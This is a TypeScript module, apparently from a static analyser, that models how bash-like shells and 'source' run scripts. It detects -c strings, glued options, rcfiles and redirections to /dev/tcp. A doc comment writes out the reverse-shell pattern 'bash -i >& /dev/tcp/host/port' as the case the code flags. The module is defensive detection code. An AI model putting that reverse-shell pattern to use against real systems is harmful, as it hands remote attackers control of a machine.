import { UNKNOWN, type Word } from '../../analysis.ts';
import { type Call, literal } from '../../call.ts';
import { hasUnknown } from '../../placeholders.ts';
import type { Entry } from '../../reentry.ts';
import type { CodeTable } from '../../tool.ts';
import { announce, isDecoded, ownText, saysNothing, scriptFile, scriptInput } from '../../tools/shells.ts';
import { isFed } from '../../traits/feeders.ts';

/** `bash -i >& /dev/tcp/host/port`: the other side types the commands. */
function connected(call: Call): void {
  for (const { target } of call.command.redirects) {
    const host = /^\/dev\/(?:tcp|udp)\/([^/]*)/.exec(target.template)?.[1];
    if (host === undefined) continue;
    call.execute('network', null, hasUnknown(host) ? null : host);
    call.walk.lost(`${call.command.name} runs code from the network`);
  }
}

function shell(call: Call): string {
  const { operands } = call;
  for (const file of call.values('--rcfile', '--init-file')) {
    const start = scriptFile(call, file);
    if (announce(call, start)) call.runText(start.template, childEntry(call, []));
  }
  if (call.command.redirects.length > 0) connected(call);
  const plus = operands[0]?.template ?? '';
  if (/^\+[A-Za-z]/.test(plus)) return call.runArgv(withoutPlus(call.command.argv));
  const glued = call.command.argv.find(isGlued);
  if (glued) return call.runText(glued.template.replace(/^-[a-z]*?c/, ''), {});
  if (call.has('-c', '--command')) {
    const script = call.value('--command') ?? operands[0];
    const rest = operands.slice(script === operands[0] ? 1 : 0);
    if (script === undefined) {
      if (isFed(call.walk.frame.via)) call.walk.lost('xargs gives the shell its script');
      return UNKNOWN;
    }
    if (!ownText(call, script)) return UNKNOWN;
    if (saysNothing(script.template))
      call.execute(isDecoded(call, script.sources ?? []) ? 'decoded' : 'unknown');
    const [name, ...words] = rest;
    const entry = childEntry(call, words);
    return call.runText(script.template, name ? { ...entry, script: name.template } : entry);
  }
  const [file, ...rest] = operands;
  const fromInput = file === undefined || call.has('-s');
  if (fromInput && call.command.stdin.from === 'terminal') return UNKNOWN;
  if (call.has('-n', '--version', '--help')) return UNKNOWN;
  const source = fromInput ? scriptInput(call) : scriptFile(call, file);
  if (file && !fromInput && !file.output) call.read(file);
  if (!announce(call, source)) return UNKNOWN;
  return call.runText(source.template, childEntry(call, fromInput ? operands : rest));
}

/** `-c'line'`: the option and its line are one word. */
function isGlued({ template }: Word): boolean {
  const letters = /^-[a-z]*/.exec(template)?.[0] ?? '';
  return letters.includes('c') && /\s/.test(template);
}

/** `bash +x -c 'line'`: an option switched off looks like an operand, and more options may follow. */
function withoutPlus(argv: readonly Word[]): Word[] {
  return argv.filter(({ template }, at) => {
    const before = argv[at - 1]?.template ?? '';
    return at === 0 || !(/^\+[A-Za-z]/.test(template) || /^\+[A-Za-z]*[oO]$/.test(before));
  });
}

function childEntry(call: Call, words: readonly Word[]): Entry {
  const { assignments } = call.command;
  return words.length === 0
    ? { assignments }
    : { assignments, positional: words.map((word) => word.template) };
}

function source(call: Call): string {
  const [file, ...rest] = call.operands;
  if (file === undefined) return UNKNOWN;
  if (/\.ps1$/i.test(file.template)) return call.runArgv([literal('pwsh'), file]);
  if (!file.output) call.read(file);
  const code = scriptFile(call, file);
  if (!announce(call, code)) return UNKNOWN;
  const entry: Entry = { sameShell: true, functions: true };
  return call.runText(
    code.template,
    rest.length === 0 ? entry : { ...entry, positional: rest.map((word) => word.template) },
  );
}

/** Programs that parse a command line themselves. */
export const SHELL_TOOLS: CodeTable = { shell, source };
